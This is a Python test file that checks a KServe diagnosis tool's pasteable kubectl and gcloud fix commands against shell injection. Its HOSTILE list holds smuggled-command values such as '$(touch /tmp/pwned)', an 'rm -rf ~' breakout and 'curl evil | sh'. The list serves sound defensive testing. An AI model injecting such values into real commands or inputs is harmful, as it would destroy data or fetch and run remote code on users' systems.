"""Every command printed for a person to paste is safe to paste (issue 36, item 1): each
template, rendered with hostile values, splits into exactly the intended arguments; a value
that cannot be what its field holds leaves its command out; nothing builds a command around
that rule."""

from __future__ import annotations

import ast
import importlib
import pkgutil
import shlex
from pathlib import Path

import pytest

import pytest_kfs
from pytest_kfs.diagnosis.evidence import Evidence
from pytest_kfs.diagnosis.rules import diagnose
from pytest_kfs.diagnosis.signatures import SIGNATURES
from pytest_kfs.shell import FIELD_KINDS, Command
from pytest_kfs.untrusted import printable

PACKAGE = Path(pytest_kfs.__file__).parent
# What an InferenceService's author, a pasted file or a cluster can put in a value.
HOSTILE = [
    "bucket;id;",
    "$(touch /tmp/pwned)",
    "`id`",
    "a b",
    "it's",
    '"; rm -rf ~; "',
    "x && curl evil | sh",
    "*",
    "-rf",
    "a\nid",
    "# not a comment",
]
# A valid value per judged field; unjudged fields take the hostile ones as they are.
VALID = {
    "namespace": "models",
    "name": "sklearn-iris",
    "pod": "sklearn-iris-predictor-5f7c9-abcde",
    "account": "kserve-sa",
    "secret": "gcs-key",
    "bucket": "my-models",
    "gsa": "kserve@ml-prod.iam.gserviceaccount.com",
    "project": "ml-prod",
}


def _templates() -> list[Command]:
    """Every Command the package holds: module constants, tables of them, signatures' fixes."""
    found: dict[str, Command] = {}
    for module in pkgutil.walk_packages([str(PACKAGE)], "pytest_kfs."):
        if ".local." in module.name or module.name.endswith((".local", ".suites")):
            continue  # the embedded cluster prints no commands (and starts processes)
        for value in vars(importlib.import_module(module.name)).values():
            values = value.values() if isinstance(value, dict) else [value]
            found |= {c.template: c for c in values if isinstance(c, Command)}
    found |= {s.fix.template: s.fix for s in SIGNATURES}
    return sorted(found.values(), key=lambda command: command.template)


TEMPLATES = _templates()
WITH_FIELDS = [command for command in TEMPLATES if command.fields]


def test_the_templates_were_found():
    assert len(WITH_FIELDS) >= 20
    assert set(VALID) == set(FIELD_KINDS)


def _intended(command: Command, values: dict[str, str]) -> list[str]:
    """The arguments the template means: split with a mark in each field's place, then the
    value put back into its word."""
    marks = {name: f"KFSMARK{index}X" for index, name in enumerate(command.fields)}
    words = shlex.split(command.template.format(**marks), comments=True)
    for name, mark in marks.items():
        words = [word.replace(mark, values[name]) for word in words]
    return words


@pytest.mark.parametrize("command", WITH_FIELDS, ids=[c.template[:60] for c in WITH_FIELDS])
@pytest.mark.parametrize("hostile", [h for h in HOSTILE if "\n" not in h])
def test_hostile_values_stay_one_argument_each(command: Command, hostile: str):
    values = {name: VALID.get(name, hostile) for name in command.fields}
    rendered = command.render(**values)
    assert shlex.split(rendered, comments=True) == _intended(command, values)


@pytest.mark.parametrize("command", WITH_FIELDS, ids=[c.template[:60] for c in WITH_FIELDS])
def test_a_value_no_api_accepts_leaves_the_command_out(command: Command):
    for name in command.fields:
        for hostile in HOSTILE:
            if name not in FIELD_KINDS and "\n" not in hostile:
                continue
            values = {other: VALID.get(other, "x") for other in command.fields}
            rendered = command.render(**values | {name: hostile})
            assert rendered.startswith("(no command: "), rendered
            # The line that says why, pasted, runs nothing of the value either.
            assert "\n" not in rendered
            assert shlex.split(rendered[1:-1])[:3] == ["no", "command:", printable(hostile)]


@pytest.mark.parametrize("command", WITH_FIELDS, ids=[c.template[:60] for c in WITH_FIELDS])
def test_a_missing_value_is_a_placeholder_that_cannot_run(command: Command):
    rendered = command.render()
    for name in command.fields:
        # `<field>` is an input redirection from a file of that name: the shell refuses it.
        assert f"<{name}>" in rendered


def test_the_seed_grant_reads_as_before_when_values_are_plain():
    grant = diagnose(
        Evidence(
            isvc={
                "metadata": {"name": "sklearn-iris", "namespace": "models"},
                "spec": {"predictor": {"model": {"storageUri": "gs://my-models/iris"}}},
                "status": {"modelStatus": {"lastFailureInfo": {"message": _SEED_DENIAL}}},
            },
        )
    )[0].fix
    assert grant == (
        "gcloud storage buckets add-iam-policy-binding gs://my-models "
        "--member=serviceAccount:kserve@ml-prod.iam.gserviceaccount.com "
        "--role=roles/storage.objectViewer"
    )


_SEED_DENIAL = (
    "403 GET https://storage.googleapis.com/storage/v1/b/my-models/o?prefix=iris%2F: "
    "kserve@ml-prod.iam.gserviceaccount.com does not have storage.objects.list access to the "
    "Google Cloud Storage bucket. Permission 'storage.objects.list' denied on resource (or it "
    "may not exist)."
)


def test_a_hostile_storage_uri_never_becomes_shell():
    """The issue's own example: a tenant's storageUri `gs://bucket;id;`."""
    findings = diagnose(
        Evidence(
            isvc={
                "metadata": {"name": "m", "namespace": "team-a"},
                "spec": {"predictor": {"model": {"storageUri": "gs://bucket;id;/m"}}},
                "status": {
                    "modelStatus": {
                        "lastFailureInfo": {
                            "message": _SEED_DENIAL.replace("my-models", "bucket;id;")
                        }
                    }
                },
            },
        )
    )
    fix = findings[0].fix
    assert fix.startswith("(no command: 'bucket;id;' is not a bucket name"), fix


def test_no_command_is_built_outside_a_template():
    """An f-string with a value after `kubectl `/`gcloud ` is a command built around the
    quoting: it must be a Command's template instead."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if "local" in path.relative_to(PACKAGE).parts:
            continue
        tree = ast.parse(path.read_text())
        in_command = {
            id(node)
            for call in ast.walk(tree)
            if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "Command"
            for argument in call.args
            for node in ast.walk(argument)
        }
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr) or id(node) in in_command:
                continue
            command_started = False
            for part in node.values:
                if isinstance(part, ast.Constant) and isinstance(part.value, str):
                    command_started |= any(w in part.value for w in ("kubectl ", "gcloud "))
                elif command_started:  # a value after a command's first word
                    offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
                    break
    assert not offenders
